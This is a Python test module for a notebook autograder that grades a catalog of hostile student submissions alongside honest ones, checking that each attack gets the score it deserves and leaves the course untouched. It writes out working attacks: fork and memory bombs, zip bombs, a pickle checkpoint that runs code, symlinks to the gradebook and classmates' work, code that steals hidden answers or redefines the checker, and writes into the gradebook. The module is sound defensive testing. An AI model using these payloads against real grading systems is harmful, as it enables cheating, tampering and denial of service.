"""``hostile``: submissions that attack the grader, graded in one batch with
honest ones. Each must get the score it deserves, with a reason, and the
honest submissions exactly the scores they get when graded alone.

Every attack starts from the reference solution of Assignment 1, so what it
deserves is the reference's score less what the attack forfeits.
"""
import hashlib
import multiprocessing
import os
import resource
import shutil
import socket
import threading
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import numpy as np

import data_scripts

from ..build.assemble import build
from ..grading.grade import grade
from .selfcheck import graded_tests
from .submissions import make_submission, mutate, reference_modules

ASSIGNMENT = "a1_backprop"
ALL_TESTS = tuple(graded_tests("a1_backprop"))
AFTER_ANSWER_CELL = ("test_model_size", "test_accuracy")  # the tests run after `hidden_sizes`


@dataclass
class Attack:
    name: str
    what: str
    zero: tuple = ()                 # tests it must score 0 on; all others as the reference
    flagged: bool = None             # must (True) or must not (False) be flagged; None: either
    cell: str = ""                   # code appended to the answer cell `hidden_sizes`
    module: tuple = ()               # (file, code appended to it)
    patch: tuple = ()                # (file, old, new): a bug of the reference
    prepare: object = None           # prepare(folder): edits the handed-in folder
    failed: bool = False             # must be reported as failed to grade (and nothing else happen)
    student: str = None              # the id handed in under, if not the attack's name
    any_score: bool = False          # its own score is not judged (only what it does to others)
    side_checks: list = field(default_factory=list)


def delete_and_duplicate_tests(folder):
    """In 01_layers: test_relu deleted, a copy of test_linear_forward appended."""
    path = folder / "01_layers.ipynb"
    nb = nbformat.read(path, as_version=4)
    grade_id = lambda c: c.metadata.get("nbgrader", {}).get("grade_id")  # noqa: E731
    nb.cells = [c for c in nb.cells if grade_id(c) != "test_relu"]
    nb.cells.append(nbformat.from_dict(dict(next(c for c in nb.cells if grade_id(c) == "test_linear_forward"))))
    nbformat.write(nb, path)


def _crafted_checkpoint(folder):
    class Payload:
        def __reduce__(self):
            return (print, ("PWNED: the checkpoint ran code",))
    meta = '{"format": 1, "layers": ["__import__(\'os\').system(\'echo PWNED\')"]}'
    with open(folder / "mnist_mlp.npz", "wb") as f:
        np.savez(f, __meta__=np.array(meta), **{"fc1.W": np.array([Payload()], dtype=object)})


def _links(*pairs):
    """prepare(): symlinks ``name -> target`` in the handed-in folder."""
    def prepare(folder):
        for name, target in pairs:
            (folder / name).unlink(missing_ok=True)
            (folder / name).symlink_to(target)
    return prepare


def _zip_bomb(path, megabytes, name="value.npy"):
    """An .npz of a few hundred KB that unpacks to ``megabytes`` MB."""
    import zipfile
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open(name, "w", force_zip64=True) as f:
            np.lib.format.write_array_header_1_0(f, {"descr": "<f8", "fortran_order": False,
                                                      "shape": (megabytes * 2**17,)})
            chunk = bytes(2**20)
            for _ in range(megabytes):
                f.write(chunk)


def _malformed_notebook(folder):
    (folder / "02_mlp.ipynb").write_text('{"cells": [ this is not JSON')


def _untrained_weights(folder):
    import scratchnn as snn
    snn.mlp([784, 512, 512, 10], init="glorot", seed=3, dtype=np.float32).save(folder / "mnist_mlp.npz")


HARDCODE_PUBLIC = '''
def _public_answer(self, x):
    self.cache = x
    return np.load("expected/public.npz")["linear_out"]
Linear.forward = _public_answer
'''

READ_HIDDEN = '''
import glob as _glob
_forward = Linear.forward
def _stolen_answer(self, x):
    for path in ("{course}/source/a1_backprop/hidden_expected.npz", "hidden_expected.npz"):
        try:
            stolen = np.load(path)
            if x.shape == stolen["linear_x"].shape:
                return stolen["linear_out"]
        except Exception:
            pass
    for path in _glob.glob("{course}/reference/a1_backprop/answers/*/test_linear_forward/*.npz"):
        try:
            value = np.load(path)["value"]
            if value.shape == (len(x), self.params["W"].shape[1]):
                return value
        except Exception:
            pass
    return _forward(self, x) + 1.0  # wrong: only a stolen answer would score
Linear.forward = _stolen_answer
'''

PATCH_CHECKER = '''
import builtins as _builtins
import scratchnn.checks as _checks
_checks.check_close = lambda name, *a, **k: print("OK  " + name)
_checks.describe_mismatch = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
_builtins.AssertionError = type("Harmless", (Exception,), {})
'''

LINKED_ANSWERS = '''
import itertools as _it
import os as _os
import scratchnn.checks as _checks
_count = _it.count(9000)
def _linked_answer(name, actual, *args, **kwargs):
    folder = _os.environ.get("SCRATCHNN_ANSWERS")
    if folder:  # the reference's answer, as a link for the grader to follow
        _os.symlink("{course}/reference/a1_backprop/answers/01_layers/test_linear_forward/000003.npz",
                    f"{{folder}}/{{next(_count):06d}}.npz")
_checks.record_answer = _linked_answer
'''

INFLATED_ANSWER = '''
import os as _os
import zipfile as _zipfile
import scratchnn.checks as _checks
_record = _checks.record_answer
def _inflated(name, actual, *args, **kwargs):
    folder = _os.environ.get("SCRATCHNN_ANSWERS")
    if not (folder and name == "Linear.forward"):
        return _record(name, actual, *args, **kwargs)
    with _zipfile.ZipFile(f"{folder}/{next(_checks._answers):06d}.npz", "w", _zipfile.ZIP_DEFLATED) as z:
        with z.open("value.npy", "w", force_zip64=True) as f:  # 300 MB of zeros, packed small
            np.lib.format.write_array_header_1_0(f, {"descr": "<f8", "fortran_order": False,
                                                      "shape": (300 * 2 ** 17,)})
            for _ in range(300):
                f.write(bytes(2 ** 20))
_checks.record_answer = _inflated
'''

FORGED_RECORDER = '''
import scratchnn.checks as _checks
def _forged(name, compute, expected, *args, **kwargs):
    _checks.record_answer(name, expected, 1e-6, 1e-8, expected=expected, fixed=kwargs.get("fixed", True))
    print("OK  " + name)
_checks.check = _forged
_checks.Expected.check = lambda self, name, key, compute: (
    _checks.record_answer(name, self.arrays.get(key, 0.0), 1e-6, 1e-8), print("OK  " + name))
'''

OUTPUT_THEN_FAIL = '''
_loss = softmax_cross_entropy
def softmax_cross_entropy(scores, y):
    from IPython import get_ipython
    get_ipython().displayhook(3.0)  # an execute_result of 3, then a failing check
    loss, dscores = _loss(scores, y)
    return loss + 1.0, dscores
'''

PATCHED_EVALUATE = '''
import scratchnn.train as _train
_train.evaluate = lambda *args, **kwargs: (0.0, 1.0)
'''

FILL_TMP = '''
for _i in range(6):  # 1.1 GB, were there room
    try:
        with open(f"/tmp/fill{_i}", "wb") as _f:
            for _ in range(190):
                _f.write(bytes(2 ** 20))
    except OSError as _e:
        print("stopped:", _e)
        break
'''

CPU_HOG = '''
import os, time
for _ in range(48):
    if os.fork() == 0:
        _end = time.time() + 40
        while time.time() < _end:
            pass
        os._exit(0)
'''

WRITE_EVERYWHERE = '''
for _target in ("{course}/gradebook.db", "{course}/source/a1_backprop/01_layers.ipynb",
                "{course}/submitted/honest-reference/a1_backprop/scratchnn/layers.py",
                "{course}/autograded/honest-reference/a1_backprop/02_mlp.ipynb",
                "{course}/nbgrader_config.py"):
    try:
        with open(_target, "a") as _f:
            _f.write("overwritten")
        print("wrote", _target)
    except OSError:
        pass
'''


def attacks(course, port):
    """The catalog; ``course`` is the course directory, ``port`` a listening socket's."""
    course = str(Path(course).resolve())
    return [
        Attack("loop_after_def", "`while True` after the answer is defined", zero=AFTER_ANSWER_CELL,
               cell="while True:\n    pass"),
        Attack("swallows_interrupt", "a loop that swallows KeyboardInterrupt", zero=AFTER_ANSWER_CELL,
               cell="import time\nwhile True:\n    try:\n        time.sleep(0.05)\n"
                    "    except KeyboardInterrupt:\n        pass"),
        Attack("os_exit", "os._exit(0) in an answer cell", zero=AFTER_ANSWER_CELL,
               cell="import os\nos._exit(0)"),
        Attack("memory_bomb", "64 GB allocated on import", zero=ALL_TESTS,
               module=("layers.py", "\n_hog = [bytearray(2 ** 30) for _ in range(64)]\n")),
        Attack("process_bomb", "forks until it cannot", flagged=False,
               cell="import os, time\nfor _ in range(100000):\n    if os.fork() == 0:\n"
                    "        time.sleep(5)\n        os._exit(0)"),
        # a bug costs points once: train_step is graded on stand-ins, the accuracy by the grader's own layers
        Attack("reads_hidden", "answers from the hidden expected arrays it can find",
               zero=("test_linear_forward",),
               module=("layers.py", READ_HIDDEN.format(course=course))),
        Attack("writes_everywhere", "writes into the gradebook, source/, another student's folder",
               cell=WRITE_EVERYWHERE.format(course=course)),
        Attack("patches_checker", "a wrong gradient, and the checker, NumPy and AssertionError redefined",
               zero=("test_softmax_ce",), flagged=True, module=("losses.py", PATCH_CHECKER),
               patch=("losses.py", "    dscores /= n\n", "")),
        Attack("deletes_and_duplicates_tests", "a test cell deleted, another duplicated (both repaired)",
               flagged=True, prepare=delete_and_duplicate_tests),
        Attack("output_spam", "40 MB printed", cell="for _ in range(200000):\n    print('spam ' * 40)"),
        Attack("network", "connects to a server on 127.0.0.1",
               module=("layers.py", "\nimport socket\ntry:\n    socket.create_connection(('127.0.0.1', "
                       f"{port}), timeout=2).sendall(b'leak')\nexcept OSError:\n    pass\n")),
        # the notebook measures the handed-in network with the lying layer, against the goal
        # only where the full MNIST is cached (on the bundled subset it says the goal needs it)
        Attack("hardcodes_public", "returns the public expected outputs",
               zero=("test_linear_forward",) + (("test_accuracy",) if data_scripts.is_cached("mnist") else ()),
               flagged=False, module=("layers.py", HARDCODE_PUBLIC)),
        Attack("crafted_checkpoint", "a checkpoint that would run code when loaded", zero=("test_accuracy",),
               prepare=_crafted_checkpoint),
        # links: to a course file, to a classmate's work, to a device
        Attack("links_to_course_files", "links to the gradebook and the hidden answers", flagged=True,
               prepare=_links(("gradebook.db", f"{course}/gradebook.db"),
                              ("hidden_expected.npz", f"{course}/source/a1_backprop/hidden_expected.npz"))),
        Attack("links_to_classmate", "layers.py a link to a classmate's, and a link to their folder",
               zero=ALL_TESTS, flagged=True,
               prepare=_links(("scratchnn/layers.py", f"{course}/submitted/honest-reference/a1_backprop/scratchnn/layers.py"),
                              ("classmate", f"{course}/submitted/honest-buggy/a1_backprop"))),
        Attack("link_to_device", "the handed-in weights a link to /dev/zero", zero=("test_accuracy",), flagged=True,
               prepare=_links(("mnist_mlp.npz", "/dev/zero"))),
        # the answers channel
        Attack("linked_answers", "every answer a link to the reference's", zero=ALL_TESTS[:-1], flagged=True,
               module=("layers.py", LINKED_ANSWERS.format(course=course))),
        Attack("inflated_answer", "an answer that unpacks to 300 MB", zero=("test_linear_forward",), flagged=True,
               module=("layers.py", INFLATED_ANSWER)),
        Attack("inflated_hidden_file", "a hidden_expected.npz of its own that unpacks to 300 MB",
               prepare=lambda folder: _zip_bomb(folder / "hidden_expected.npz", 300, "linear_out.npy")),
        # ids and notebooks
        Attack("dotted_id", "the id .reference", failed=True, student=".reference"),
        Attack("dash_id", "the id -rf", failed=True, student="-rf"),
        Attack("malformed_notebook", "02_mlp.ipynb is not JSON: graded as the release, with its modules",
               zero=("test_model_size",), flagged=True, prepare=_malformed_notebook),
        # points the kernel would have awarded
        Attack("patched_evaluate", "evaluate patched in the module, untrained weights handed in",
               zero=("test_accuracy",), flagged=True, module=("train.py", PATCHED_EVALUATE),
               prepare=_untrained_weights),
        Attack("reassigned_evaluate", "snn.evaluate reassigned in a cell, untrained weights handed in",
               zero=("test_accuracy",), flagged=True, cell="snn.evaluate = lambda *a, **k: (0.0, 1.0)",
               prepare=_untrained_weights),
        Attack("forged_recorder", "the gradient checker not written, the checks forged to record the answers",
               zero=ALL_TESTS[:-1], patch=("gradcheck.py", "    return (f_plus - f_minus) / (2 * h)",
                                                 "    raise NotImplementedError"),
               module=("gradcheck.py", FORGED_RECORDER)),
        Attack("output_then_failure", "an execute_result of 3 before a failing check",
               zero=("test_softmax_ce",), module=("losses.py", OUTPUT_THEN_FAIL)),
        # resources
        Attack("fills_tmp", "writes 1.1 GB to /tmp", cell=FILL_TMP),
        Attack("error_spam", "an error of 50 MB", cell="raise ValueError('x' * 50_000_000)"),
        Attack("dumps_history", "prints its kernel's input history, hidden tests included, in base64",
               cell="import base64\nprint('DUMP' + base64.b64encode(chr(10).join(In).encode()).decode() + 'DUMP')"),
        Attack("cpu_hog", "48 busy processes beside the honest ones (its own score is its own)",
               cell=CPU_HOG, any_score=True),
    ]


class Listener:
    """A TCP server on 127.0.0.1 counting the connections it receives."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port, self.connections = self.sock.getsockname()[1], 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()


def _submit(course, student, attack=None, modules=None):
    ref = reference_modules(ASSIGNMENT)
    modules = modules or ref
    if attack and attack.patch:
        modules = mutate(modules, *attack.patch)
    if attack and attack.module:
        file, code = attack.module
        modules = {**modules, file: modules[file] + code}
    folder = make_submission(course, student, ASSIGNMENT, modules, solved=True)
    if attack and attack.cell:
        path = folder / "02_mlp.ipynb"
        nb = nbformat.read(path, as_version=4)
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade_id") == "hidden_sizes":
                c.source += "\n" + attack.cell
        nbformat.write(nb, path)
    if attack and attack.prepare:
        attack.prepare(folder)
    return folder


def run_suite(course_dir, workers=2, timeout_s=5, wall_s=12):
    """Grade the honest submissions alone, then everything in one batch.
    Returns rows ``(submission, what, expectation, passed, detail)``."""
    course = build(course_dir, [ASSIGNMENT], timeout_s=timeout_s, wall_s=wall_s)
    buggy = mutate(reference_modules(ASSIGNMENT), "losses.py", "    dscores /= n\n", "")
    honest = {"honest-reference": None, "honest-buggy": buggy}
    alone = {}
    for student, modules in honest.items():
        shutil.rmtree(course / "submitted", ignore_errors=True)
        _submit(course, student, modules=modules)
        (alone[student],) = grade(course, ASSIGNMENT, workers=1)
    shutil.rmtree(course / "submitted", ignore_errors=True)
    for student, modules in honest.items():
        _submit(course, student, modules=modules)
    listener = Listener()
    catalog = attacks(course, listener.port)
    for attack in catalog:
        _submit(course, attack.student or attack.name, attack)
    untouchable = [course / "source", course / "release", course / "nbgrader_config.py",
                   *(course / "submitted" / s for s in honest)]
    before = _tree_digest(untouchable)
    results, peak = _graded_apart(course, workers)
    reference = alone["honest-reference"]
    rows = []
    for student in honest:
        same = results[student].tests == alone[student].tests
        rows.append((student, "honest", "the score it gets alone", same,
                     f"{results[student].score:g} (alone {alone[student].score:g})"))
    rows += [_verdict(attack, results.get(attack.student or attack.name), reference) for attack in catalog]
    rows.append(("(files)", "source/, release/, config, the honest students' folders", "unchanged",
                 _tree_digest(untouchable) == before, ""))
    rows.append(("(network)", "connections to the 127.0.0.1 server", "none", listener.connections == 0,
                 f"{listener.connections} received"))
    sizes = {name: (course / "autograded" / name / ASSIGNMENT / "02_mlp.ipynb") for name in ("output_spam", "error_spam")}
    sizes = {name: path.stat().st_size if path.exists() else 0 for name, path in sizes.items()}
    rows.append(("(output)", "the spammed notebooks as stored", "under 5 MB", all(0 < n < 5e6 for n in sizes.values()),
                 ", ".join(f"{name} {n:,} bytes" for name, n in sizes.items())))
    filled = course / "autograded" / "fills_tmp" / ASSIGNMENT / "02_mlp.ipynb"
    rows.append(("(tmp)", "what stopped the writes to /tmp", "its size cap", filled.exists() and
                 "No space left on device" in filled.read_text(), ""))
    rows.append(("(history)", "withheld values in the dumped history, decoded", "none", *_dumped_values(course)))
    leaked = [str(p.relative_to(course)) for p in (course / "feedback").rglob("*")
              if p.is_symlink() or p.name in ("gradebook.db", "hidden_expected.npz", "classmate")]
    rows.append(("(feedback)", "a course file or a classmate's in any feedback", "none", not leaked,
                 ", ".join(leaked[:3])))
    outputs = "".join(p.read_text(errors="replace") for p in (course / "autograded").rglob("*.ipynb"))
    rows.append(("(code)", "a checkpoint ran code", "never", "PWNED" not in outputs, ""))
    rows.append(("(memory)", "the largest grading process (workers, runners, kernels)", "under 1.5 GB",
                 peak < 1536, f"{peak:,.0f} MB"))
    return rows


def _graded_apart(course, workers):
    """``({student: Result}, MB)``: the batch graded in a process of its own, and
    the peak memory of every process grading started (workers, runners, kernels),
    which that process alone has waited for."""
    context = multiprocessing.get_context("fork" if "fork" in multiprocessing.get_all_start_methods() else "spawn")
    with ProcessPoolExecutor(max_workers=1, mp_context=context) as apart:
        return apart.submit(_grade_and_measure, str(course), workers).result()


def _grade_and_measure(course, workers):
    results = {r.student: r for r in grade(course, ASSIGNMENT, workers=workers)}
    return results, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024


def _verdict(attack, r, reference):
    """A row: did the attack get exactly what it deserves?"""
    if attack.failed:
        ok = bool(r and r.failed)
        return (attack.name, attack.what, "failed to grade, with its reason", ok,
                "; ".join(r.taken.get("(submission)", [])) if r else "not reported at all")
    want = {t: (0 if t in attack.zero else reference.tests[t]) for t in reference.tests}
    got = r.tests if r else {}
    wrong = [] if attack.any_score else [f"{t} {got.get(t, 0):g} not {want[t]:g}" for t in want
                                         if got.get(t, 0) != want[t]]
    if r is None or r.failed:
        wrong.append("failed to grade")
    if attack.flagged is not None and r and r.flagged != attack.flagged:
        wrong.append("flagged" if r.flagged else "not flagged")
    reasons = "; ".join(f"{g}: {', '.join(why)}" for g, why in (r.taken if r else {}).items())
    detail = ", ".join(wrong) or (f"{r.score:g}/{r.max_score:g}" + (" flagged" if r.flagged else "")
                                  + (f" ({reasons})" if reasons else ""))
    expectation = ("any score of its own" if attack.any_score else
                   f"0 on {', '.join(t.removeprefix('test_') for t in attack.zero)}" if attack.zero
                   else "the reference's score") + ("; flagged" if attack.flagged else "")
    return (attack.name, attack.what, expectation, not wrong, detail if len(detail) < 160 else detail[:157] + "...")


def _dumped_values(course):
    """``(passed, detail)``: the history ``dumps_history`` printed into its
    feedback holds hidden tests' source but none of the withheld values."""
    import base64
    import json
    import re
    feedback = course / "feedback" / "dumps_history" / ASSIGNMENT / "02_mlp.html"
    found = re.search(r"DUMP([A-Za-z0-9+/=]+)DUMP", feedback.read_text()) if feedback.exists() else None
    if not found:
        return False, "no dump in its feedback"
    history = base64.b64decode(found.group(1)).decode()
    withheld = json.loads((course / "source" / ASSIGNMENT / "hidden_expected.json").read_text())
    with np.load(course / "source" / ASSIGNMENT / "hidden_expected.npz") as hidden:
        values = [repr(float(hidden[k].flat[0]))[:8] for k in withheld if hidden[k].size and hidden[k].dtype.kind == "f"]
    shown = [v for v in values if len(v.strip("-0.")) >= 4 and v in history]
    return "hidden_expected" in history and not shown, f"{len(history):,} characters, {len(shown)} of {len(values)} values"


def _tree_digest(paths):
    """One hash of the files under ``paths`` (names and bytes; links as links)."""
    digest = hashlib.sha256()
    for root in paths:
        files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file() or p.is_symlink())
        for path in files:
            digest.update(str(path).encode())
            digest.update(os.readlink(path).encode() if path.is_symlink() else path.read_bytes())
    return digest.hexdigest()


def table(rows):
    width = max(len(r[0]) for r in rows) + 2
    lines = [f"{'submission'.ljust(width)}{'verdict':8}expected / got"]
    for name, what, expectation, passed, detail in rows:
        lines.append(f"{name.ljust(width)}{'PASS' if passed else 'FAIL':8}{expectation}"
                     + (f" / {detail}" if detail else "") + f"   [{what}]")
    return "\n".join(lines)
